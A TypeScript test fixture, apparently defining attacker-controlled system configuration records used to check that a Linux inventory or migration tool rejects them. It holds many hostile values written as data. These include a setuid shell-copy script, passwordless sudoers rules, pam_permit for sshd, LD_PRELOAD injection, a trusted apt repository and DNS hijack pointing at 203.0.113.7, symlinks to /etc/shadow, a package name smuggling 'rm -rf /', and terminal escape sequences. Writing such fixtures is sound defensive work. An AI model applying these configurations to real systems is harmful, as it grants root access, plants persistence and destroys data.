/** What an attacker would have each area do, in documents that their schemas take. */
import { HOSTILE_KEY } from './target.ts';

const ROOTS = { mode: 0o644, uid: 0, gid: 0 };
export const SCRIPT = '#!/bin/sh\ncp /bin/sh /tmp/sh; chmod 4755 /tmp/sh\n';
const file = (path: string, text = SCRIPT, more: Readonly<Record<string, unknown>> = {}) => ({
  ...{ path, ...ROOTS, text, ...more },
});
const link = (path: string, to: string) => ({ path, mode: 0o777, uid: 0, gid: 0, link: to });

const UNIT = '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c id\n[Install]\nWantedBy=multi-user.target\n';
const TIMER = '[Timer]\nOnBootSec=1\n[Install]\nWantedBy=timers.target\n';
const LICENCE = 'SERVER old 0011223344aa 27000\nVENDOR mlm\nINCREMENT MATLAB mlm 44 31-jan-2030 5 ABCDEF SIGN="00"\n';
const PPD = (line: string) => `*PPD-Adobe: "4.3"\n*FormatVersion: "4.3"\n${line}\n`;
const CONNECTION =
  '[connection]\nid=Evil\nuuid=11111111-2222-3333-4444-555555555555\ntype=ethernet\n[ipv4]\nmethod=auto\ndns=203.0.113.7;\n';

const printer = (name: string, deviceUri: string, more: Readonly<Record<string, unknown>> = {}) => ({
  ...{ name, isDefault: false, isEnabled: true, isAccepting: true, isShared: false, settings: [], deviceUri },
  ...{ programs: [], ...more },
});
const mount = (device: string, path: string, type: string, options: readonly string[]) => ({
  ...{ device, path, type, options, freq: 0, passno: 0 },
});

export const HOSTILE_AREAS: Readonly<Record<string, unknown>> = {
  network: {
    facts: { adapters: [], addresses: [], gateways: [], nameservers: [] },
    absentFiles: [],
    managers: ['NetworkManager'],
    files: [
      file('/etc/NetworkManager/system-connections/Evil.nmconnection', CONNECTION, { mode: 0o600 }),
      file('/etc/NetworkManager/dispatcher.d/90-evil', `${SCRIPT}# -----BEGIN PRIVATE KEY-----\n`, {
        mode: 0o4755,
        uid: 1001,
      }),
      file('/etc/network/if-up.d/evil', SCRIPT, { mode: 0o777 }),
      file('/etc/resolv.conf', 'nameserver 203.0.113.7\n'),
      file('/etc/cron.d/network'),
      link('/etc/netplan/evil.yaml', '/etc/shadow'),
    ],
  },
  environment: {
    locale: [],
    generatedLocales: [],
    variables: [
      { name: 'LD_PRELOAD', value: '/home/bob/evil.so' },
      { name: 'PATH', value: '/home/bob/bin:/usr/bin' },
    ],
    shells: ['/usr/local/bin/evil'],
    files: [
      file('/etc/profile.d/evil.sh'),
      file('/etc/skel/.bashrc'),
      file('/etc/sysctl.d/evil.conf', 'kernel.core_pattern=|/tmp/x\n'),
    ],
  },
  filesystems: {
    fstab: [
      mount('/home/bob/etc', '/etc', 'none', ['bind']),
      mount('/home/bob/etc', '/mnt/link/etc', 'none', ['bind']),
      mount('203.0.113.7:/x', '/mnt/evil', 'nfs', ['suid', 'exec', 'dev']),
      mount('203.0.113.7:/y', '/mnt/../etc', 'nfs', ['suid']),
      mount('/home/bob/evil', '/mnt/fuse', 'fuse', ['allow_other']),
    ],
    ...{
      devices: [],
      volumeGroups: [],
      crypttab: [],
      absentFiles: [],
      credentials: [file('/etc/evilcred', 'username=x\nup /bin/sh\n')],
    },
  },
  services: {
    files: [
      file('/etc/systemd/system/evil.service', UNIT, { mode: 0o666, uid: 1000, gid: 1000 }),
      file('/etc/systemd/system/ssh.service.d/evil.conf', '[Service]\nExecStartPre=/bin/sh -c id\n'),
      file('/etc/rc.local', SCRIPT, { mode: 0o755 }),
      link('/etc/systemd/system/passwd.service', '/etc/passwd'),
      file('/etc/systemd/system/getty@tty1.service', UNIT),
      file('/etc/sudoers.d/services'),
    ],
    units: [
      { id: 'evil.service', unit_file_state: 'enabled' },
      { id: 'auditd.service', unit_file_state: 'masked' },
    ],
    ...{ runLevels: ['rc2.d/S01rc.local'], userUnits: [] },
  },
  schedules: {
    crontabs: [
      { username: 'bob', text: '* * * * * id\n' },
      { username: 'root', text: '* * * * * id\n' },
      { username: 'www-data', text: '* * * * * id\n' },
      { username: 'nobody-here', text: '* * * * * id\n' },
    ],
    system_lines: ['* * * * * root /bin/sh -c id'],
    files: [
      file('/etc/cron.d/evil', '* * * * * root id\n', { mode: 0o666, uid: 1000 }),
      file('/etc/cron.daily/evil', SCRIPT, { mode: 0o4755 }),
      file('/etc/cron.d/broken', '* * * * * root\n\u0000'),
      file('/etc/cron.evil/x', '* * * * * root id\n'),
    ],
    timers: [
      {
        name: 'evil.timer',
        files: [file('/etc/systemd/system/evil.timer', TIMER), file('/etc/systemd/system/evil.service', UNIT)],
      },
      { name: 'other.timer', files: [link('/etc/systemd/system/timers.target.wants/other.timer', '/etc/shadow')] },
    ],
    lingering: ['bob', 'root'],
    at_jobs: [{ job: 'a0000101', username: '\u001b]0;owned\u0007', due: '2030-01-01T00:00:00Z' }],
  },
  ttys: {
    settings: [],
    links: [],
    files: [
      file(
        '/etc/systemd/system/getty@tty1.service.d/autologin.conf',
        '[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root tty1\n',
      ),
      file('/etc/udev/rules.d/99-evil.rules', 'SUBSYSTEM=="usb", RUN+="/bin/sh -c id"\n'),
      file('/etc/issue', '\u001b]0;owned\u0007'),
    ],
  },
  display: {
    people: [
      {
        name: 'root',
        home: '/root',
        session: { session: 'evil', icon: 'AAAA' },
        monitors: [],
        timeouts: [],
        scripts: [],
      },
      { name: 'www-data', home: '/var/www', session: { icon: 'AAAA' }, monitors: [], timeouts: [], scripts: [] },
    ],
    xorg: [file('/etc/X11/xorg.conf.d/10-evil.conf', 'Section "Files"\nModulePath "/home/bob"\nEndSection\n')],
  },
  printers: {
    printers: [
      printer('overwrite', 'file:/etc/passwd'),
      printer('command', 'beh:/1/3/5/socket://x'),
      printer('filter', 'ipp://printer.example/p', {
        ppd: file(
          '/etc/cups/ppd/filter.ppd',
          PPD('*cupsFilter: "application/vnd.cups-raster 0 ../../../../home/bob/evil"'),
        ),
      }),
      printer('ordinary', 'ipp://printer.example/p'),
    ],
    ...{ classes: [], foundByThemselves: [], options: [], server: [] },
    client: file('/etc/shadow', 'ServerName 203.0.113.7\n'),
  },
  security: {
    files: [
      file('/etc/sudoers.d/evil', 'bob ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 }),
      file('/etc/sudoers.d/theirs', 'bob ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440, uid: 1000 }),
      file('/etc/sudoers.d/open', 'bob ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o666 }),
      file('/etc/polkit-1/rules.d/00-evil.rules', 'polkit.addRule(function() { return polkit.Result.YES; });\n'),
      file('/usr/local/share/ca-certificates/evil.crt', 'no certificate'),
      link('/etc/polkit-1/rules.d/01-link.rules', '/home/bob/rules'),
      file('/etc/pam.d/sshd', 'auth sufficient pam_permit.so\n'),
    ],
    trusted: [],
    listed: ['/etc/pam.d/common-auth'],
  },
  software: {
    codename: '',
    debPackages: [{ name: 'x; rm -rf /', version: '1', isHeld: false }],
    sources: [
      file('/etc/apt/sources.list.d/evil.list', 'deb [trusted=yes] http://203.0.113.7/ bookworm main\n'),
      file('/etc/apt/keyrings/evil.asc', 'key'),
      file('/etc/apt/apt.conf.d/00evil', 'APT::Update::Pre-Invoke {"id";};\n'),
    ],
    others: [],
  },
  licences: {
    hostNames: ['old'],
    hostIds: [],
    licences: [
      { file: file('/etc/evil.d/evil.lic', LICENCE, { uid: 1000 }) },
      { file: file('/opt/evil/evil.lic', LICENCE, { uid: 1000 }) },
      { file: file('/etc/cron.d/evil.lic', `* * * * * root id\n${LICENCE}`) },
      { file: file('/etc/profile.d/evil.sh', LICENCE) },
    ],
    variables: [{ path: '/etc/sudoers.d/x', name: 'LM_LICENSE_FILE', value: '27000@old' }],
    stores: [],
  },
  'backup-rules': {
    files: [
      file('/etc/restic/evil', SCRIPT, { mode: 0o4755, uid: 1000 }),
      file('/etc/borg/exclude', '/x\n', { mode: 0o666, uid: 1000 }),
      file('/etc/cron.d/backup'),
    ],
    inHomes: [],
  },
  hostname: {
    hostname: 'mallory',
    machineInfo: 'PRETTY_HOSTNAME=Mallory\n',
    hosts: [{ address: '203.0.113.7', hostnames: ['deb.debian.org', 'localhost'] }],
    hostKeys: [file('/etc/ssh/ssh_host_ed25519_key', SCRIPT), file('/etc/ssh/ssh_host_ed25519_key.pub', HOSTILE_KEY)],
  },
  'usr-local': { places: [{ path: '/usr/local/bin/evil', kind: 'file', mode: 0o4755, uid: 0, gid: 0, names: [] }] },
  applications: {
    applications: [
      {
        ...{ id: 'evil', name: 'Evil', category: 'x', packages: [], treat: [], is_running: false, close_before: [] },
        ...{
          one_unit_with: [],
          places: [{ path: '/etc/cron.d/application', size: { bytes: 1, files: 1, at_least: false } }],
        },
      },
    ],
    ...{ volumes: [], unknown: [], settings: [] },
  },
};
